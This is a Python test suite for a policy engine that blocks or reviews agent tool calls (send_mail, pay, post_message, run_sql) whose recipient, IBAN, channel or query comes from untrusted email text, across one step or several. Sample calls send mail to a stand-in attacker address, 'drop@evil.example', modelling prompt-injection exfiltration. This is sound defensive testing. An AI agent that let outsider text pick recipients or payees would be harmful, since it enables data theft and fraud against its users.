"""Text written by outsiders must not decide who is paid or told, in one step or over many."""

import pytest

from policies import requests
from policies.engine import Outcome, decide
from policies.facts.extract import extract
from policies.facts.record import FILES, Facts, Origin
from policies.verdict import judge
from tests.policies.suites import starter, tools

READ = 'mail = read_inbox(limit=1)[0]\nprint(mail["body"])'


def facts(code: str, known: dict[str, Origin] | None = None, task: str = "") -> Facts:
    return extract(code, tools=tools(), known=known or {}, task_text=task)


def outcome(code: str, *, seen: tuple[str, ...] = (), known: Facts | None = None) -> Outcome:
    origins = dict(known.variables) if known else {}
    ctx = requests.RunContext(agent="ap", control_labels=frozenset(seen))
    return judge(ctx, facts(code, origins), tools(), starter()).decision.outcome


def test_a_recipient_taken_from_a_mail_is_denied_steps_later() -> None:
    first = facts(READ + '\nnote = {"reply": mail["from"]}')
    second = facts("target = note['reply'].strip()", dict(first.variables))
    code = 'send_mail(to=target, subject="s", body="b")'
    assert outcome(code, known=second, seen=("untrusted",)) is Outcome.DENY


def test_a_recipient_the_model_wrote_after_reading_is_reviewed() -> None:
    code = 'send_mail(to="drop@evil.example", subject="s", body="b")'
    assert outcome(code, seen=("untrusted",)) is Outcome.REVIEW
    assert outcome(code) is Outcome.ALLOW


def test_a_recipient_from_the_task_needs_no_review_after_reading() -> None:
    found = facts(
        'send_mail(to="ann@corp.example", subject="s", body="b")',
        task="Send the digest to ann@corp.example",
    )
    ctx = requests.RunContext(agent="ap", control_labels=frozenset({"untrusted"}))
    assert judge(ctx, found, tools(), starter()).decision.outcome is Outcome.ALLOW


def test_the_broker_denies_what_the_analysis_would_have_missed() -> None:
    send = next(tool for tool in tools() if tool.name == "send_mail")
    request = requests.call(
        requests.RunContext(agent="ap"),
        send,
        {"to": "drop@evil.example", "subject": "s", "body": "b"},
        {"to": Origin(frozenset({"tool:read_inbox"}), frozenset({"untrusted"}))},
    )
    assert decide(request, starter()).outcome is Outcome.DENY


@pytest.mark.parametrize(
    "code",
    [
        "pay(iban={x}, amount=1)",
        "post_message(channel={x}, text='t')",
        "run_sql(query={x})",
        "send_mail({x}, 's', 'b')",
    ],
)
def test_each_deciding_role_is_held(code: str) -> None:
    assert outcome(READ + "\n" + code.format(x='mail["body"]')) is Outcome.DENY
    assert outcome(READ + "\n" + code.format(x='"x" if mail else "y"')) is not Outcome.ALLOW


def test_the_same_code_is_clean_when_only_the_text_is_from_outside() -> None:
    code = READ + '\nsend_mail(to="ann@corp.example", subject="s", body=mail["body"])'
    assert outcome(code) is Outcome.ALLOW


def test_a_file_does_not_wash_what_an_earlier_step_wrote_into_it() -> None:
    first = facts(READ + '\nopen("note.txt", "w").write(mail["from"])')
    second = facts("total = 1 + 1", dict(first.variables))
    code = 'target = open("note.txt").read()\nsend_mail(to=target, subject="s", body="b")'
    assert outcome(code, known=second, seen=("untrusted",)) is Outcome.DENY


def test_a_file_that_came_with_the_task_is_as_trusted_as_it_was_said_to_be() -> None:
    code = 'send_mail(to=open("in/who.txt").read(), subject="s", body="b")'
    task = frozenset({"task"})
    outside = facts("x = 1", {FILES: Origin(task, frozenset({"untrusted"}))})
    assert outcome(code, known=outside) is Outcome.DENY
    ours = facts("x = 1", {FILES: Origin(task)})
    assert outcome(code, known=ours) is Outcome.ALLOW
